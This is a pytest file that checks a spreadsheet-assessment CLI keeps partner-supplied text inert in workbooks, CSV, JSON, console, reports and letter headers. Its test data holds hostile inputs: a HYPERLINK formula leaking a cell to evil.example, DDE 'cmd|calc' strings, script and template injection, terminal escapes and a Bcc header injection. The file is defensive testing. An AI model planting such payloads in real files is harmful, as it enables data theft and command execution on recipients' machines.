"""What partners write stays text in every output: no formula, no link, no markup, no escape."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result

from tests.services.small import a_folder, answer
from xlassess.assessment.settings import AssessmentFolder
from xlassess.cli.app import cli
from xlassess.contract.layout import layout
from xlassess.toolkits.load import find_toolkit

NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[red]rich[/red] [link=http://evil.example]x[/link]",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link",
    "<b>bold</b> <script>alert(1)</script> &amp; {{ 7*7 }} {% raw %}",
    "http://evil.example/",
    "mailto:evil@evil.example",
    "internal:'1 Basics'!A1",
    "external:c:\\temp\\evil.xlsx",
    "\u202eevil\u202c txt",
    "\t=1+1 evil",
    "\n\nBcc: evil@evil.example",
)
MARKS = ("evil", "cmd|", "rich[", "bold<", "SUM(1+1)*")
"""Bits by which the texts are known wherever they turn up."""


def run(folder: AssessmentFolder, *words: str | Path) -> Result:
    result = CliRunner().invoke(cli, ["-C", str(folder.root), *map(str, words)])
    assert result.exit_code in (0, 1), result.output
    return result


def _printable(text: str) -> str:
    """What of a text Excel lets into a cell."""
    return "".join(char for char in text if char >= " " or char in "\t\n")


@pytest.fixture
def folder(tmp_path: Path) -> AssessmentFolder:
    """An assessment with an item for each nasty text, which stands in answer and comment."""
    folder = a_folder(tmp_path / "small")
    path = folder.toolkits / "tiny.yaml"
    item = '      - {{id: "1{0}", ask: "Matter {0}?", answer: agreement}}\n'
    more = "".join(item.format(chr(ord("D") + n)) for n in range(len(NASTY)))
    text = path.read_text(encoding="utf-8").replace("scoring:", more + "scoring:")
    path.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def inbox(folder: AssessmentFolder, tmp_path: Path) -> Path:
    inbox = tmp_path / "inbox"
    toolkit = find_toolkit("tiny", folder.toolkits)
    (table,) = layout(toolkit).sections[0].tables
    column, comment = table.column("answer"), table.column("comment")
    assert column
    assert comment
    some = ("Agree", "Disagree", "Agree")
    good, doubtful = (*some, *["Agree"] * len(NASTY)), (*some, *map(_printable, NASTY))
    for name, answers in (("Ada Ash", good), ("Abe Ash", good), ("Bea Birch", doubtful)):
        path = answer(folder, name, inbox / f"{name} [red]=1+1.xlsx", answers)
        book = openpyxl.load_workbook(path)
        sheet = book["1 Basics"]
        for row, text in zip(table.rows[3:], NASTY, strict=True):
            for at in (column, comment):
                cell = sheet.cell(row.index + 1, at.index + 1)
                if at is comment:
                    cell.value = _printable(text)
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        book.save(path)
    return inbox


def _cells(path: Path) -> Iterator[Any]:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if isinstance(cell.value, str))


def _is_partners(text: str) -> bool:
    return any(mark in text for mark in MARKS)


def assert_only_text(path: Path) -> int:
    """Count the cells that show partners' texts; none is a formula or a link."""
    seen = 0
    for cell in _cells(path):
        if _is_partners(cell.value):
            seen += 1
            assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
            assert cell.hyperlink is None, (path.name, cell.coordinate)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                assert not _is_partners(text), name
            assert "<b>bold" not in text, name
            assert "oleLink" not in text
            assert "ddeLink" not in text
    return seen


def test_workbooks__show_partners_texts_as_texts(folder: AssessmentFolder, inbox: Path) -> None:
    run(folder, "ingest", inbox)
    run(folder, "consolidate")
    run(folder, "query")
    (summary,) = (folder.root / "output").rglob("summary.xlsx")
    assert assert_only_text(summary) >= len(NASTY)
    queries = list((folder.outbox / "queries").rglob("*.xlsx"))
    assert len(queries) == 1
    assert sum(map(assert_only_text, queries)) >= len(NASTY)


def test_console__shows_partners_texts_as_texts(folder: AssessmentFolder, inbox: Path) -> None:
    said = run(folder, "ingest", inbox).output
    said += run(folder, "status").output + run(folder, "query").output
    assert "[red]rich[/red]" in said
    assert "[red]=1+1.xlsx" in said
    assert "\x1b" not in said
    assert "\x07" not in said
    assert "\u202e" not in said


def test_json__escapes_what_could_steer_a_terminal(folder: AssessmentFolder, inbox: Path) -> None:
    said = run(folder, "ingest", "--json", inbox).stdout
    assert all(" " <= char <= "~" or char == "\n" for char in said)
    document = json.loads(said)
    assert any("[red]rich" in json.dumps(file) for file in document["files"])


def test_report__shows_partners_texts_as_texts(folder: AssessmentFolder, inbox: Path) -> None:
    run(folder, "ingest", inbox)
    run(folder, "report")
    (report,) = (folder.root / "output").rglob("report.docx")
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            assert "<b>bold" not in text
            assert "<script" not in text
            assert "fldSimple" not in text or not _is_partners(text.split("fldSimple")[1][:300])
            if name.endswith(".rels"):
                assert not _is_partners(text), name


def test_export__csv_begins_no_cell_as_a_formula(folder: AssessmentFolder, inbox: Path) -> None:
    import csv

    run(folder, "ingest", inbox)
    run(folder, "export", "--format", "csv")
    files = list((folder.root / "output").rglob("*.csv"))
    assert files
    seen = 0
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    if _is_partners(cell):
                        seen += 1
                        assert cell[:1] not in "=+-@\t\r", cell
    assert seen >= len(NASTY)


def _heads(folder: AssessmentFolder) -> list[list[str]]:
    """The lines at the head of each message that goes with a query workbook."""
    letters = sorted((folder.outbox / "queries").glob("*.txt"))
    texts = [path.read_text(encoding="utf-8") for path in letters]
    return [text.partition("\n\n")[0].split("\n") for text in texts]


def test_letter__partners_texts_are_in_no_header(folder: AssessmentFolder, inbox: Path) -> None:
    run(folder, "ingest", inbox)
    run(folder, "query")
    (head,) = _heads(folder)
    assert [line.partition(":")[0] for line in head] == ["Subject"]
    assert not any(_is_partners(line) for line in head)


def test_names__are_texts_in_every_output(tmp_path: Path) -> None:
    people = (
        ("+evil() <b>Trust</b>", "{{ 7*7 }} evil", "Board"),
        ("@evil Council", "evil\nBcc: a@evil.example", "Front line"),
    )
    folder = a_folder(tmp_path / "small", people)
    # The return date of this folder is long over, which the command tells by its exit code.
    assert CliRunner().invoke(cli, ["-C", str(folder.root), "generate"]).exit_code == 1
    names = [path.name for path in folder.outbox.glob("*.xlsx")]
    assert len(names) == 2
    assert all(char.isprintable() and char not in "<>:|/\\" for name in names for char in name)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for path in folder.outbox.glob("*.xlsx"):
        book = openpyxl.load_workbook(path)
        book["1 Basics"]["C6"].value = "Perhaps"
        book.save(inbox / path.name)
    for verb in ("ingest", "query", "consolidate", "report", "export", "status"):
        said = run(folder, verb, *([inbox] if verb == "ingest" else []))
        assert "49 evil" not in said.output
    assert [[line.partition(":")[0] for line in head] for head in _heads(folder)] == [
        ["Subject"],
        ["Subject"],
    ]
    for path in (*folder.outbox.rglob("*.xlsx"), *(folder.root / "output").rglob("*.xlsx")):
        assert assert_only_text(path) > 0
